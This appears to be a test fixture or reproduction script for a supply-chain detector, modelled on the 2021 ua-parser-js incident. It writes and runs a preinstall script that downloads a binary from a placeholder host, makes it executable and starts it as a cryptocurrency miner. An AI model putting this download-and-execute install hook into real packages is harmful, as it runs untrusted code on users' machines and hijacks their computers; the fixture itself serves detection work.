# incident: ua-parser-js (2021): preinstall downloads a miner and starts it
# finding: downloaded-executed
# needs: curl
cat > preinstall.sh <<'SH'
curl -s "http://$DROP/program" -o jsextension
chmod +x jsextension
./jsextension -k --tls --rig-id q &
wait
SH
sh preinstall.sh
